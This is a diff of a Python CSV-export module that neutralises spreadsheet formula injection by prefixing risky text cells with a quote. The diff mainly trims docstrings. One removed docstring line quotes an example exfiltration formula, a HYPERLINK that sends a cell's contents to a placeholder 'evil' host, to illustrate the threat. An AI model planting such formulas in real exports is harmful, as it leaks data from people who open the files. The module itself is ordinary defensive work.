@@ -1,22 +1,5 @@
-"""The one CSV writer every export uses: spreadsheet formula injection is neutralised here.
-
-A cell whose text starts with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return is run as a
-formula when the file is opened in Excel or LibreOffice (OWASP "CSV injection"): a prompt, a
-reason or a note such as ``=HYPERLINK("http://evil/?"&A1)`` would leak or execute. Such a cell
-is written with a leading single quote, which spreadsheets read as "this is text" and hide.
-
-Precisely, ``cell_escape(value)``:
-
-- leaves numbers (``int``, ``float``, ``Decimal``; ``bool`` is an int) and ``None`` untouched:
-  a negative number written from a float, ``-0.25``, stays a number in the sheet;
-- leaves text that is a plain decimal number literal (``-0.25``, ``+3``, ``-1e-05``) untouched:
-  a spreadsheet parses it as that number and nothing runs;
-- prefixes ``'`` to any other text starting with a trigger character, and to text that starts
-  with ``'`` where the rest would itself be prefixed — so ``cell_unescape`` can tell an added
-  quote from one the value really had, and export → import gives back every value exactly.
-
-Importers that read exports back call ``cell_unescape`` on every cell (``read_cell``).
-"""
+"""The one CSV writer every export uses: a text cell a spreadsheet would run as a formula gets
+a leading ``'`` (docs/reference/contracts.md); importers undo it with ``read_cell``."""
 
 from __future__ import annotations
 
@@ -37,17 +20,12 @@ _NUMBER_RE = re.compile(r"[+-]?(?:\d+(?:\.\d*)?|\.\d+)(?:[eE][+-]?\d+)?")
 def _needs_prefix(text: str) -> bool:
     if text.startswith(FORMULA_TRIGGERS):
         return _NUMBER_RE.fullmatch(text) is None
-    # A quote the value really has, in front of what would be escaped: escape it too, or the
-    # import would take the value's own quote for ours.
+    # A quote the value really has before what would be escaped is escaped too, so import can tell.
     return text.startswith(TEXT_PREFIX) and _needs_prefix(text[1:])
 
 
 def cell_escape(value: Any) -> Any:
-    """The value to write for ``value``: numbers and None as they are, text made inert.
-
-    Anything that is not a number or None is written as ``str(value)``, with ``'`` in front
-    when a spreadsheet would run it as a formula (rules in the module docstring).
-    """
+    """The value to write for ``value``: numbers and None as they are, text made inert."""
     if value is None or isinstance(value, int | float | Decimal):
         return value
     text = str(value)
@@ -55,17 +33,14 @@ def cell_escape(value: Any) -> Any:
 
 
 def cell_unescape(text: str) -> str:
-    """The inverse of ``cell_escape`` on text: ``cell_unescape(cell_escape(s)) == s`` for every
-    string ``s``. Text ``cell_escape`` would not have produced by prefixing is returned as is,
-    so hand-written files read as before (a lone leading quote before a letter stays)."""
+    """The inverse of ``cell_escape`` on text; other text is returned as is."""
     if text.startswith(TEXT_PREFIX) and _needs_prefix(text[1:]):
         return text[1:]
     return text
 
 
 def read_cell(value: str | None) -> str:
-    """A cell as importers use it: ``None`` (a short row) as "", the export's protective quote
-    removed, surrounding whitespace stripped."""
+    """A cell as importers use it: None as "", the protective quote removed, stripped."""
     return cell_unescape(value or "").strip()
 
 
@@ -84,8 +59,7 @@ class SafeWriter:
 
 
 class SafeDictWriter(csv.DictWriter):
-    """``csv.DictWriter`` whose every value goes through ``cell_escape`` (header names are the
-    program's own column names and are written as they are)."""
+    """``csv.DictWriter`` whose every value goes through ``cell_escape``."""
 
     def writeheader(self) -> Any:
         return self.writer.writerow(list(self.fieldnames))
